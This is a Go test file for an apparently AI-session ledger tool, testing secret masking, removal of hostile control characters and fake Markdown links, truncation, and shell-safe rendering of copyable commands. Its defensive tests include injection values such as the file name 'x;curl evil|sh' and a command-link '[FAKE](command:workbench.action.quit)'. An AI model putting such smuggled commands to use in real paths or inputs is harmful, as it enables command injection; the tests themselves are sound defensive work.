package records

import (
	"cmp"
	"context"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"
	"unicode/utf8"

	"ctxledger.dev/compaction"
	"ctxledger.dev/internal/chars"
	"ctxledger.dev/internal/fault"
	"ctxledger.dev/internal/limits"
	"ctxledger.dev/ledger"
	"ctxledger.dev/memory"
	"ctxledger.dev/sessions"
	"ctxledger.dev/transcript"
)

// nodes returns all nodes of a kind, by the path of their file, else by label.
func (l *opened) nodes(kind Kind) map[string]Node {
	found := map[string]Node{}
	l.walk("", func(n Node) {
		if n.Kind == kind {
			found[cmp.Or(n.File, n.Label)] = n
		}
	})
	return found
}

func TestDocuments(t *testing.T) {
	l := newLedger(t)
	session := worked(l)
	p := must(ledger.Compact(t.Context(), l, ledger.PlanCompactionRequest{Session: session,
		Options: compaction.Options{Keep: 1, Reason: "manual"}}, "", false))
	if p.Outcome != compaction.Compacted {
		t.Fatal(p.Outcome, p.Why)
	}
	l.say(session, user("Go on."), assistant("On it."))
	l.remember("test `runner`", "how *tests* are run", "Use go test.\n# really\n")
	golden(t, "session.md", must(l.Text(t.Context(), Address{Kind: KindSession, ID: session})))
	golden(t, "summary.md", must(l.Text(t.Context(), Address{Kind: KindSummary, ID: p.Summary.ID})))
	golden(t, "memory.md",
		must(l.Text(t.Context(), Address{Kind: KindMemory, Scope: memory.Project, ID: "test `runner`"})))
	golden(t, "change.md", l.open(l.nodes(KindChange)["src/add.go"]))
	text := l.open(l.nodes(KindArtifact)["cat big.log"])
	if !strings.HasPrefix(text, "a line of the log") || !strings.HasSuffix(text, "outside\n") {
		t.Errorf("the artifact begins %.50q and ends %.50q", text, text[len(text)-50:])
	}
}

func TestWhatIsNotThereIsNotFound(t *testing.T) {
	l := newLedger(t)
	for _, uri := range []string{
		"ctxledger:/session/00000000/x.md", "ctxledger:/summary/000000000000.md", "ctxledger:/artifact/000000000000/x",
		"ctxledger:/change/1/x.md", "ctxledger:/change/0/x.md",
		"ctxledger:/change/99999999999999999999/x", "ctxledger:/memory/project/none.md",
	} {
		if text, err := l.Text(t.Context(), must(Parse(uri))); !fault.Is(err, fault.NotFound) {
			t.Errorf("%s: %q, %v", uri, text, err)
		}
	}
	for _, id := range []string{"sessions/00000000", "sessions/00000000/artifacts"} {
		if nodes, err := l.Nodes(t.Context(), id); len(nodes) > 0 || err != nil && !fault.Is(err, fault.NotFound) {
			t.Errorf("%s: %v, %v", id, nodes, err)
		}
	}
}

// secret is a token that no rule can miss; in parts, so that no scanner takes this file for a leak.
var secret = "ghp_" + strings.Repeat("Ab1x", 9)

// TestNoSecretLeaves puts a secret into every text.
func TestNoSecretLeaves(t *testing.T) {
	l := newLedger(t)
	long := strings.Repeat("words ", maxAsked/6-3)
	session := l.say("", append(append([][]byte{user("deploy with " + secret + " please")},
		l.use("Bash", map[string]any{"command": "curl -H " + secret + " x; " + strings.Repeat("true; ", 30) + secret},
			strings.Repeat("line "+secret+"\n", 3000), false)...),
		l.use("Write", map[string]any{"file_path": "/ws/" + secret + ".txt", "content": "x\n" + secret}, "ok",
			false)...)...)
	l.say(session, l.use("Edit", map[string]any{"file_path": "/ws/" + secret + ".go", "old_string": secret,
		"new_string": "x"}, "ok", false)...)
	l.say(session, assistant("I used\x00"+secret), user(long+secret), assistant("yes"), user("and now?"),
		assistant("nothing"))
	must(ledger.Compact(t.Context(), l,
		ledger.PlanCompactionRequest{Session: session, Options: compaction.Options{Keep: 1}}, "", false))
	l.keep("content "+secret, "title "+secret)
	l.remember("key "+secret, "is "+secret, "body "+secret)
	seen := map[Kind]bool{}
	check := func(where, text string) bool {
		if strings.Contains(text, secret[:12]) {
			t.Errorf("%s: the secret leaves: %.300q", where, text[max(0, strings.Index(text, secret[:12])-100):])
		}
		return strings.Contains(text, "[masked:")
	}
	l.walk("", func(n Node) {
		seen[n.Kind] = check(n.ID, n.Label+n.Description+n.Tooltip+n.File+n.URI) || seen[n.Kind]
		if n.URI != "" && !check(n.URI, l.open(n)) {
			t.Errorf("%s: nothing says that something was masked", n.URI)
		}
		if n.Kind != KindChange {
			return
		}
		d := must(l.Diff(t.Context(), must(Parse(n.URI))))
		check(n.ID, d.Before+d.After)
		seen[KindBefore] = strings.Contains(d.Before, "masked-") || seen[KindBefore] // as the name of a file has it
		if d.Before != "" {
			seen[KindAfter] = check(d.Before, must(l.Text(t.Context(), must(Parse(d.Before))))) || seen[KindAfter]
		}
	})
	for _, k := range []Kind{KindSession, KindArtifact, KindMemory, KindChange, KindBefore, KindAfter} {
		if !seen[k] {
			t.Errorf("no %s says that something was masked", k)
		}
	}
}

// TestASecretAtACutIsMasked moves a secret over every place where a text is cut.
func TestASecretAtACutIsMasked(t *testing.T) {
	l := newLedger(t)
	for at := maxTarget - len(secret) - 2; at < maxTarget+2; at++ {
		got := must(l.brief(t.Context(), strings.Repeat("x", at)+" "+secret+strings.Repeat(" tail", 100), maxTarget))
		if strings.Contains(got, secret[:6]) {
			t.Errorf("cut behind %d characters: %q", at, got)
		}
	}
	for _, before := range []int{limits.MaskText - len(secret)/2, limits.MaskText - margin - 20,
		limits.MaskText - margin + 20} {
		text := strings.Repeat("x ", before/2) + secret + strings.Repeat("\ntail", 50_000)
		got, whole, err := l.document(t.Context(), text, true)
		if err != nil || whole || strings.Contains(got, secret[:6]) {
			t.Errorf("cut near %d bytes: %v, %v, …%q", before, whole, err, got[len(got)-100:])
		}
	}
}

// TestTitlesLeaveRoom has sessions whose titles are longer than a row: their labels end with a word, and the tooltips have
// all of them.
func TestTitlesLeaveRoom(t *testing.T) {
	for title, want := range map[string]string{
		"Make the tests green": "Make the tests green",
		"Please get to know this shop first: read the packages and tell me how": "Please get to know this shop first: read the packages and…",
		strings.Repeat("w", 70):                         strings.Repeat("w", maxShort-1) + "…",
		strings.Repeat("x", maxShort-10) + " " + secret: strings.Repeat("x", maxShort-10) + "…",
	} {
		l := newLedger(t)
		l.say("", user(title), assistant("yes"))
		nodes := must(l.Nodes(t.Context(), "sessions"))
		if len(nodes) != 1 || nodes[0].Label != want || strings.Contains(nodes[0].Label, secret[:6]) {
			t.Errorf("%q is shown as %+v", title, nodes)
		} else if want != title && !strings.Contains(title, secret) &&
			!strings.HasPrefix(nodes[0].Tooltip, title+"\n") {
			t.Errorf("the tooltip of %q is %q", title, nodes[0].Tooltip)
		}
	}
}

// TestNothingHostileIsShown has stored texts with what drives or deceives a reader.
func TestNothingHostileIsShown(t *testing.T) {
	l := newLedger(t)
	evil := "a\x1b[2Jb\u202egnp.exe\u200b\r\x07\u2028\x1e\n```\n# FAKE heading\n~~~\n[FAKE](command:workbench.action.quit)\n````\n<b>FAKE</b>"
	session := l.say("",
		append([][]byte{user(evil)}, l.use(evil, map[string]any{"command": evil, evil: evil}, evil, false)...)...)
	l.say(session, l.use("Write", map[string]any{"file_path": "/ws/" + evil, "content": evil}, "ok", false)...)
	l.say(session, assistant(evil), user("x"), assistant("y"), user("z"), assistant("z"))
	must(ledger.Compact(t.Context(), l,
		ledger.PlanCompactionRequest{Session: session, Options: compaction.Options{Keep: 1}}, "", false))
	l.keep(evil+"\xff\xfe", "title \x1b[2J\u202e")
	l.remember("name \u202e`# FAKE`", "[FAKE](command:x)", evil)
	l.walk("", func(n Node) {
		for _, text := range []string{n.Label, n.Description, n.Tooltip, n.File} {
			if !utf8.ValidString(text) || strings.ContainsFunc(text, chars.Hostile) {
				t.Errorf("%s shows %q", n.ID, text)
			}
		}
		if strings.Contains(n.Label+n.Description+n.File, "\n") {
			t.Errorf("%s has lines: %q", n.ID, n.Label)
		}
		if n.URI == "" {
			return
		}
		text := l.open(n)
		if !utf8.ValidString(text) || strings.ContainsFunc(text, chars.Hostile) {
			t.Errorf("%s shows %q", n.URI, text)
		}
		if n.Kind == KindArtifact {
			return // its content and nothing else
		}
		for _, line := range outside(text) {
			if strings.HasPrefix(line, "# FAKE") ||
				strings.Contains(line, "[FAKE](") && !strings.Contains(line, "`") && !strings.Contains(line, `\[`) {
				t.Errorf("%s: stored words stand as ours: %q in\n%s", n.URI, line, text)
			}
		}
	})
}

// outside returns the lines of a Markdown document outside of fenced blocks.
func outside(text string) (lines []string) {
	fence := ""
	for line := range strings.Lines(text) {
		line = strings.TrimRight(line, "\n")
		ticks := line[:len(line)-len(strings.TrimLeft(line, "`"))]
		switch {
		case fence == "" && len(ticks) >= 3:
			fence = ticks
		case fence == "":
			lines = append(lines, line)
		case len(ticks) >= len(fence) && strings.TrimSpace(line[len(ticks):]) == "":
			fence = ""
		}
	}
	return lines
}

// FuzzAFenceCannotBeEnded: a text in a fence ends where the fence does, and so does a text in a line.
func FuzzAFenceCannotBeEnded(f *testing.F) {
	for _, s := range []string{"", "x", "```\n# x", "````", "~~~\n```", "`", "a``b"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if rest := outside(Fence(shown(s), "markdown") + "END\n"); len(rest) != 1 || rest[0] != "END" {
			t.Fatalf("%q leaves %q", s, rest)
		}
		if s = flat(s); s == "" {
			return
		}
		c := code(s)
		mark := c[:len(c)-len(strings.TrimLeft(c, "`"))]
		inner := strings.TrimSuffix(strings.TrimPrefix(c, mark), mark)
		if longestRun(inner, '`') >= len(mark) || strings.HasPrefix(inner, "`") || strings.HasSuffix(inner, "`") ||
			strings.TrimSpace(inner) != strings.TrimSpace(s) {
			t.Fatalf("%q is %q", s, c)
		}
	})
}

func TestWhatIsTooLongIsCutAndSaysSo(t *testing.T) {
	l := newLedger(t)
	noise := make([]byte, limits.MaskText+100_000)
	for i := range noise {
		noise[i] = byte(1 + rand.IntN(255))
	}
	for name, content := range map[string]string{
		"lines": strings.Repeat("a line of text\n", 90_000), "one line": strings.Repeat("x ",
			600_000), "tags": strings.Repeat("<b>&</b>", 150_000),
		"escapes": strings.Repeat("\x1b[1m", 300_000), "no UTF-8": strings.Repeat("\xff",
			1_200_000), "noise": string(noise),
		"a little": strings.Repeat("a line of text\n", 70_000),
	} {
		id := l.keep(content, name)
		got := must(l.Text(t.Context(), Address{Kind: KindArtifact, ID: id}))
		if len(got) > limits.MaskText+500 || len(got) < limits.MaskText/8 {
			t.Errorf("%s: %d bytes", name, len(got))
		}
		if end := got[len(got)-200:]; !strings.Contains(end, "`ctxledger artifact read "+id+"`") {
			t.Errorf("%s: nothing says where the rest is: %q", name, end)
		}
	}
	for name, content := range map[string]string{"whole": strings.Repeat("a line of text\n", 60_000), "empty": ""} {
		if got := must(l.Text(t.Context(), Address{Kind: KindArtifact, ID: l.keep(content, name)})); got != content {
			t.Errorf("%s: %d of %d bytes", name, len(got), len(content))
		}
	}
	id := l.keep("\x7fELF\x00\x01", "a program")
	got := must(l.Text(t.Context(), Address{Kind: KindArtifact, ID: id}))
	if got != "This artifact is not text: 6 B.\n`ctxledger artifact read "+id+" > FILE` writes it to a file.\n" {
		t.Errorf("a program: %q", got)
	}
}

// TestOfALongSessionTheNewestIsShown has more turns than a document holds.
func TestOfALongSessionTheNewestIsShown(t *testing.T) {
	l := newLedger(t)
	session := ""
	const turns = 150
	for i := range turns {
		session = l.say(session, user(fmt.Sprintf("request %d %s", i+1, strings.Repeat("<> ", 10_000))),
			assistant(strings.Repeat("an answer\n", 1_000)))
	}
	got := must(l.Text(t.Context(), Address{Kind: KindSession, ID: session}))
	if len(got) > limits.MaskText || len(got) < limits.MaskText*9/10 {
		t.Errorf("it has %d bytes", len(got))
	}
	if !strings.Contains(got, fmt.Sprintf("request %d ", turns)) || strings.Contains(got, "request 2 ") {
		t.Error("not the newest turns are shown")
	}
	if !strings.Contains(got[:2000], "are left out. `ctxledger artifact read "+session+"` prints all of them") {
		t.Errorf("nothing says that something is left out: %s", got[:1000])
	}
	if !strings.Contains(got, "*The beginning of 30,0") {
		t.Error("nothing says that requests are cut")
	}
}

// FuzzAMessageHoldsWhatIsSendable: what is masked with one request fits a frame.
func FuzzAMessageHoldsWhatIsSendable(f *testing.F) {
	f.Add("a\x00<&>\"\\\n\u2028\u00e9\x7f", 3)
	f.Fuzz(func(t *testing.T, s string, n int) {
		s = strings.ToValidUTF8(s, "\ufffd")
		if got := len(must(json.Marshal(s))) - len(`""`); encoded(s) < got {
			t.Fatalf("%q takes %d bytes, not %d", s, got, encoded(s))
		}
		head := wholeLines(s, max(n, 0))
		if len(head) > max(n, 0) || !strings.HasPrefix(s, head) || !utf8.ValidString(head) {
			t.Fatalf("%d of %q are %q", n, s, head)
		}
	})
}

func TestWhatWasForgottenSaysSo(t *testing.T) {
	l := newLedger(t)
	session := worked(l)
	p := must(ledger.Compact(t.Context(), l,
		ledger.PlanCompactionRequest{Session: session, Options: compaction.Options{Keep: 1}}, "", false))
	artifact := l.nodes(KindArtifact)["cat big.log"]
	forget := func(handle string) {
		must(l.Forget(t.Context(), ledger.ForgetRequest{Handle: handle}))
	}
	forget(artifact.Handle)
	var n Node
	for label, node := range l.nodes(KindArtifact) {
		if strings.HasSuffix(label, " characters without a title") { // the command went, too
			n = node
		}
	}
	if !strings.HasPrefix(n.Description, "forgotten 2026-11-20 12:00 · ") || n.Handle != "" {
		t.Errorf("the node is %+v", n)
	}
	got := l.open(n)
	want := "artifact " + artifact.Handle + " was forgotten on 2026-11-20 ("
	if !strings.HasPrefix(got, want) || strings.Contains(got, "big.log") {
		t.Errorf("the document says %q", got)
	}
	forget(p.Summary.ID)
	got = must(l.Text(t.Context(), Address{Kind: KindSummary, ID: p.Summary.ID}))
	if !strings.Contains(got, "forgotten") {
		t.Errorf("the summary says %q", got)
	}
	forget(session)
	got = must(l.Text(t.Context(), Address{Kind: KindSession, ID: session}))
	if !strings.Contains(got, "forgotten on 2026-11-20") || strings.Contains(got, "docs") {
		t.Errorf("the session says %q", got)
	}
	l.walk("", func(n Node) {
		if n.URI != "" {
			l.open(n)
		}
	})
}

// TestACutDocumentSaysWhereTheRestIs has documents that are longer as shown than as stored.
func TestACutDocumentSaysWhereTheRestIs(t *testing.T) {
	l := newLedger(t)
	// shown with three times the characters, six times the bytes
	hidden := func(n int) string { return strings.Repeat("x\u200c", n/2) }
	session := l.say("", user("begin"))
	for i := range 60 {
		l.say(session, assistant(fmt.Sprintf("answer %d %s", i+1, hidden(18_000))))
	}
	args := map[string]any{"file_path": "/ws/a.go"}
	for i := range 10 {
		args[fmt.Sprint("new_string", i)] = hidden(maxArgument + 10)
	}
	l.say(session, l.use("Edit", args, "ok", false)...)
	text := must(l.Text(t.Context(), Address{Kind: KindSession, ID: session}))
	if !strings.Contains(text, "answer 60 ") || strings.Contains(text, "Cut here") ||
		!strings.Contains(text[:2000], "`ctxledger artifact read "+session+"` prints all of them") {
		t.Errorf("the session begins %.1000s\nand ends %s", text, text[len(text)-200:])
	}
	for name, text := range map[string]string{
		"a change": l.open(l.nodes(KindChange)["a.go"]),
		"a session": must(l.finish(t.Context(), Fence(hidden(limits.MaskText), "markdown")+"END\n",
			"`ctxledger artifact read "+session+"`")),
	} {
		lines := outside(text)
		if lines[len(lines)-1] != "*Cut here: `ctxledger artifact read "+session+"` prints all of it.*" ||
			len(text) > limits.MaskText+500 {
			t.Errorf("%s of %d bytes ends %q", name, len(text), text[len(text)-200:])
		}
	}
}

// TestACommandHoldsNoWordsOfOthers: what is there to be copied into a shell runs ctxledger and nothing else.
func TestACommandHoldsNoWordsOfOthers(t *testing.T) {
	for path, want := range map[string]string{
		"src/add_1.go": "`ctxledger why src/add_1.go`", "Straße/买.md": "`ctxledger why Straße/买.md`",
		"x;curl evil|sh": "`ctxledger why`, with its path,", "a b": "`ctxledger why`, with its path,",
		"$(x)": "`ctxledger why`, with its path,", "a`b": "`ctxledger why`, with its path,",
		"a\nb": "`ctxledger why`, with its path,", "--help": "`ctxledger why`, with its path,",
		"'": "`ctxledger why`, with its path,", "a\\b": "`ctxledger why`, with its path,",
	} {
		if got := why(path); got != want {
			t.Errorf("%q: %s", path, got)
		}
	}
	l := newLedger(t)
	l.say("", l.use("Write", map[string]any{"file_path": "/ws/x;curl evil|sh", "content": "x"}, "ok", false)...)
	text := l.open(l.nodes(KindChange)["x;curl evil|sh"])
	if !strings.Contains(text, "\n`ctxledger why`, with its path, shows") {
		t.Errorf("the change says %s", text)
	}
}

// paged is a ledger that counts the pages of intents it is asked for.
type paged struct {
	ledger.API
	pages int
}

func (p *paged) Intents(ctx context.Context, r ledger.IntentsRequest) (ledger.IntentsResponse, error) {
	p.pages++
	return p.API.Intents(ctx, r)
}

// TestAChangeDoesNotReadThroughItsSession shows changes of a session with many pages of intents.
func TestAChangeDoesNotReadThroughItsSession(t *testing.T) {
	l := newLedger(t)
	counting := &paged{API: l.Local}
	l.Reader.API = counting
	const calls = 1500
	args := map[string]any{"old_string": "a", "new_string": "b"}
	for i := range 30 {
		args[fmt.Sprint("more", i)] = strings.Repeat("x", 200)
	}
	session := ""
	for i := 0; i < calls; i += 100 {
		var messages [][]byte
		for n := i; n < i+100; n++ {
			args["file_path"] = fmt.Sprintf("/ws/%d.go", n)
			messages = append(messages, l.use("Edit", args, "ok", false)...)
		}
		session = l.say(session, messages...)
	}
	changes := l.nodes(KindChange)
	for _, i := range []int{0, calls / 2, calls - 1} {
		counting.pages = 0
		text := l.open(changes[fmt.Sprintf("%d.go", i)])
		if !strings.Contains(text, fmt.Sprintf("- `file_path` `/ws/%d.go`\n", i)) || counting.pages > 3 {
			t.Errorf("change %d took %d pages and says %.300s", i, counting.pages, text)
		}
	}
}

// TestThePageOfASessionBeginsWithWhatAPersonLooksFor: the title as words, the agent by its name, the dates and the cost, each
// turn with its own; ids come last. What the agent added is not said to be the user's.
func TestThePageOfASessionBeginsWithWhatAPersonLooksFor(t *testing.T) {
	l := newLedger(t)
	said := func(text []byte, u *sessions.Usage) sessions.NewEntry {
		return sessions.NewEntry{Kind: sessions.KindMessage, Time: noon, Format: transcript.Anthropic, Original: text,
			Message: transcript.Span{To: len(text)}, Model: "claude-sonnet-4-5", Usage: u}
	}
	reminder := said(user("<system-reminder>Be short.</system-reminder>"), nil)
	reminder.Loaded = true
	r := must(l.AppendEntries(t.Context(), ledger.AppendEntriesRequest{Import: "i", Next: 1, Done: true,
		Session: sessions.Session{Host: "claude-code", HostID: "05758ff7", Dir: "/tmp/a1/ws/",
			Title: "Make `go test` green.", Model: "claude-sonnet-4-5"},
		Entries: []sessions.NewEntry{said(user("Make `go test` green."), nil),
			said(assistant("Done."), &sessions.Usage{Input: 100_000, Output: 10_000}),
			said(user("Thanks."), nil), reminder,
			said(assistant("Bye."), &sessions.Usage{CacheRead: 100_000, Output: 1_000})},
	}))
	got := must(l.Text(t.Context(), Address{Kind: KindSession, ID: r.Session}))
	for _, want := range []string{
		"# Make go test green.\n\n- Claude Code · claude-sonnet-4-5 · 2026-11-20 12:00 · 2 turns\n- \\$0.50 ",
		"\n- session `" + r.Session + "` · in `ws`\n\n<details",
		"<summary>Turn 1 · 2026-11-20 12:00 · $0.45 · Make go test green.</summary>",
		"<summary>Turn 2 · 2026-11-20 12:00 · $0.05 · Thanks.</summary>",
		"**Added by the agent**\n\n```markdown\n<system-reminder>",
	} {
		if !strings.Contains(got, want) {
			t.Errorf("there is no %q in\n%s", want, got)
		}
	}
}
